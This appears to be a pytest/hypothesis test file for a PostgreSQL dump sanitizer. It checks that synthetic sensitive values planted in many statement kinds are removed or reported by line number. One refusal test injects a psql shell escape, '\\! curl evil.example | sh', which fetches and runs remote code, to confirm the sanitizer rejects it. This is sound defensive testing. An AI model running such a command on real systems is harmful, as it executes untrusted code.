"""A sensitive value planted in any statement kind pg_dump 15-18 writes never passes unseen.

The sanitizer removes it (statistics, comments, labels, user mappings, subscriptions, a column's
DEFAULT) or the statement is schema code it copies (views, functions, checks, indexes...), and
then the leak check names the statement's line. The leak check finds the value there in an
unsanitized dump too, whole or inside longer text.
"""
from __future__ import annotations

import io

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from replica.data.dumps import leakcheck
from replica.data.dumps.reader import STATEMENT

from tests.unit.data.dumpmaker import FOOTER, HEADER, TABLES, TS, copy_field

SETTINGS = settings(max_examples=15, deadline=None, suppress_health_check=[
    HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
LOWER = "abcdefghijklmnopqrstuvwxyz"
emails = st.builds("{}@{}.{}".format, st.text(LOWER + "0123456789.'_+-", min_size=3, max_size=12),
                   st.text(LOWER, min_size=2, max_size=10), st.sampled_from(["com", "org", "example"]))
usernames = st.builds("{}_{}".format, st.text(LOWER, min_size=5, max_size=8), st.integers(10, 99999))
names = st.builds("{}{} {}{}".format, st.sampled_from("ABCDÉÖZ"), st.text(LOWER + "àéøß'", min_size=2,
                                                                             max_size=9),
                  st.sampled_from("KLMŁ"), st.text(LOWER + "-\\", min_size=3, max_size=11))


def stats(table: str, column: str, array: str) -> str:
    return (f"SELECT * FROM pg_catalog.pg_restore_attribute_stats(\n\t'version', '180006'::integer,"
            f"\n\t'schemaname', 'public',\n\t'relname', '{table}',\n\t{column},\n\t'inherited', "
            f"'f'::boolean,\n\t'null_frac', '0'::real,\n\t'avg_width', '19'::integer,\n\t"
            f"'n_distinct', '-1'::real,\n\t'most_common_vals', '{array}'::text,\n\t"
            "'most_common_freqs', '{1}'::real[],\n\t'correlation', '1'::real\n);\n")


# kind: (statement template, {L} = the planted text as a SQL string's inside, {A} = as an array
# literal's inside; where it goes: pre (before the data), post (after), or users (the users
# table's DDL); whether the sanitizer removes it (else it is code it copies).
PLANTED = {
    "column statistics": (stats("users", "'attname', 'email'", "{A}"), "post", True),
    "column statistics of a text column": (
        stats("meetings", "'attname', 'title'", "{A}"), "post", True),
    "index expression statistics": (stats("users_lower_email", "'attnum', '1'::smallint", "{A}"),
                                    "post", True),
    "comment on a table": ("COMMENT ON TABLE public.users IS 'owner: {L}';\n", "pre", True),
    "comment on a column": ("COMMENT ON COLUMN public.users.email IS 'e.g. {L}';\n", "pre", True),
    "security label": ("SECURITY LABEL FOR selinux ON TABLE public.users IS '{L}';\n", "pre", True),
    "user mapping password": ("CREATE USER MAPPING FOR postgres SERVER prod OPTIONS (\n    "
                              "password '{L}',\n    \"user\" 'admin'\n);\n", "pre", True),
    "subscription connection": ("CREATE SUBSCRIPTION sub CONNECTION 'host=prod user=app password="
                                "{L}' PUBLICATION pub WITH (connect = false, slot_name = 'sub');\n",
                                "pre", True),
    "column default": ("    email text DEFAULT '{L}'::text NOT NULL,\n", "users", True),
    "default set later": ("ALTER TABLE ONLY public.users ALTER COLUMN display_name SET DEFAULT "
                          "'{L}'::text;\n", "post", True),
    "view": ("CREATE VIEW public.vip AS\n SELECT id\n   FROM public.users\n  WHERE (email = "
             "'{L}'::text);\n", "pre", False),
    "materialized view": ("CREATE MATERIALIZED VIEW public.mv AS\n SELECT id\n   FROM public.users"
                          "\n  WHERE (username <> '{L}'::text)\n  WITH NO DATA;\n", "pre", False),
    "function body": ("CREATE FUNCTION public.f() RETURNS text\n    LANGUAGE sql\n    AS $_$ "
                      "SELECT 'hello {L}'; $_$;\n", "pre", False),
    "domain check": ("CREATE DOMAIN public.d AS text\n\tCONSTRAINT d_check CHECK ((VALUE <> "
                     "'{L}'::text));\n", "pre", False),
    "enum label": ("CREATE TYPE public.mood AS ENUM (\n    'happy',\n    '{L}'\n);\n", "pre", False),
    "foreign server option": ("CREATE SERVER prod FOREIGN DATA WRAPPER dummy OPTIONS (\n    host "
                              "'{L}'\n);\n", "pre", False),
    "table check constraint": ("    CONSTRAINT users_email_check CHECK ((email <> '{L}'::text)),\n",
                               "users", False),
    "partition bound": ("ALTER TABLE ONLY public.part ATTACH PARTITION public.part_a FOR VALUES "
                        "IN ('{L}');\n", "post", False),
    "partial index": ("CREATE INDEX users_x ON public.users USING btree (email) WHERE (email <> "
                      "'{L}'::text);\n", "post", False),
    "row security policy": ("CREATE POLICY p ON public.users USING ((email <> '{L}'::text));\n",
                            "post", False),
    "trigger condition": ("CREATE TRIGGER t BEFORE UPDATE ON public.users FOR EACH ROW WHEN ((new."
                          "email <> '{L}'::text)) EXECUTE FUNCTION public.f();\n", "post", False),
    "rule": ("CREATE RULE r AS\n    ON UPDATE TO public.users\n   WHERE (new.email = '{L}'::text)"
             " DO INSTEAD NOTHING;\n", "post", False),
    "check added later": ("ALTER TABLE public.users\n    ADD CONSTRAINT c CHECK ((email <> '{L}'"
                          "::text)) NOT VALID;\n", "post", False),
    "publication row filter": ("CREATE PUBLICATION pub FOR TABLE ONLY public.users WHERE ((email"
                               " <> '{L}'::text));\n", "post", False),
    "aggregate initial value": ("CREATE AGGREGATE public.agg(text) (\n    SFUNC = textcat,\n    "
                                "STYPE = text,\n    INITCOND = '{L}'\n);\n", "pre", False),
    "event trigger tag": ("CREATE EVENT TRIGGER e ON ddl_command_start\n         WHEN TAG IN "
                          "('{L}')\n   EXECUTE FUNCTION public.f();\n", "post", False),
    "function setting": ("ALTER FUNCTION public.f() SET search_path TO '{L}';\n", "pre", False),
    "text search option": ("CREATE TEXT SEARCH DICTIONARY public.dict (\n    TEMPLATE = "
                           "pg_catalog.simple, stopwords = '{L}' );\n", "pre", False),
}


def sql_inside(text: str) -> str:
    return text.replace("'", "''")


def array_inside(text: str) -> str:
    return "{" + '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"' + ",zzzz}"


def planted_dump(users: list[list], kind: str, text: str) -> tuple[bytes, int]:
    """A dump of users (and an empty meetings and segments table) with text planted in one
    statement of the kind; return it and the line the statement starts on."""
    template, where, _ = PLANTED[kind]
    statement = template.replace("{L}", sql_inside(text)).replace("{A}", sql_inside(array_inside(text)))
    users_ddl = TABLES["users"]
    if where == "users":
        line = statement if statement.lstrip().startswith("CONSTRAINT") else None
        users_ddl = (users_ddl.replace("    last_login_at timestamp with time zone\n",
                                       "    last_login_at timestamp with time zone,\n" + line[:-2] + "\n")
                     if line else users_ddl.replace("    email text NOT NULL,\n", statement))
    pre = [HEADER.format(major=18), users_ddl, "\n", TABLES["meetings"], "\n",
           TABLES["transcript_segments"], "\n"]
    if where == "pre":
        pre.append(statement + "\n")
    data = ["COPY public.users (id, email, username, display_name, password_hash, created_at, "
            "last_login_at) FROM stdin;\n"]
    data += ["\t".join(copy_field(v) for v in row) + "\n" for row in users]
    data.append("\\.\n\n")
    post = [statement + "\n"] if where == "post" else []
    text = "".join(pre + data + post) + FOOTER
    first = "CREATE TABLE public.users" if where == "users" else statement.splitlines()[0]
    return text.encode(), text[:text.index(first)].count("\n") + 1


@st.composite
def users_and_planted(draw):
    """Users with realistic sensitive values, one of them planted whole or inside longer text."""
    n = draw(st.integers(1, 4))
    mails = draw(st.lists(emails, min_size=n, max_size=n, unique=True))
    logins = draw(st.lists(usernames, min_size=n, max_size=n, unique=True))
    people = draw(st.lists(names, min_size=n, max_size=n, unique=True))
    users = [[i + 1, mails[i], logins[i], people[i], f"pbkdf2:sha256:1$s{i}$h{i}", TS, None]
             for i in range(n)]
    value = draw(st.sampled_from(mails + logins + people))
    around = draw(st.sampled_from([("", ""), ("contact ", " now"), ("(", ")."), ("see: ", "")]))
    return users, value, around[0] + value + around[1]


def leaks(source: bytes, output: bytes, policy) -> leakcheck.Report:
    return leakcheck.check(io.BytesIO(source), io.BytesIO(output), policy)


@pytest.mark.parametrize("kind", PLANTED)
@SETTINGS
@given(drawn=users_and_planted())
def test_a_value_planted_in_any_statement_is_removed_or_named_by_the_leak_check(
        run, policy, kind, drawn):
    users, value, planted = drawn
    dump, line = planted_dump(users, kind, planted)
    unsanitized = leaks(dump, dump, policy)  # the leak check reads this statement kind
    assert any(leak.table == STATEMENT and leak.line == line for leak in unsanitized.leaks)
    output = run(dump)
    report = leaks(dump, output, policy)
    if PLANTED[kind][2]:  # the sanitizer's to remove
        assert value.encode() not in output
        assert report.total_leaks == 0
    else:  # schema code, copied: the leak check names where
        assert report.leaks and all(leak.table == STATEMENT and leak.line == line
                                    for leak in report.leaks)


@pytest.mark.parametrize("statement, message", [
    ("CREATE FUTURE THING public.x (a 'b');\n", "does not know statements like 'CREATE FUTURE THING"),
    ("\\! curl evil.example | sh\n", "the psql command '\\\\!' is not one pg_dump writes"),
    ("SELECT pg_catalog.lo_create('16385');\n", "the dump holds large objects"),
    ("SELECT * FROM pg_catalog.pg_restore_relation_stats(\n\t'relname', 'users',\n\t"
     "'most_common_vals', '{a}'::text\n);\n", "relation statistics with unknown field"),
])
def test_a_statement_the_sanitizer_does_not_understand_is_refused_with_its_line(
        run, statement, message):
    from replica.data.errors import PolicyError
    from tests.unit.data.dumpmaker import make_dump, sample_rows

    dump = make_dump(sample_rows()).decode()
    at = dump.index("COPY public.users")
    line = dump[:at].count("\n") + 1
    with pytest.raises(PolicyError, match=f"line {line}: ") as error:
        run((dump[:at] + statement + dump[at:]).encode())
    assert message in str(error.value)
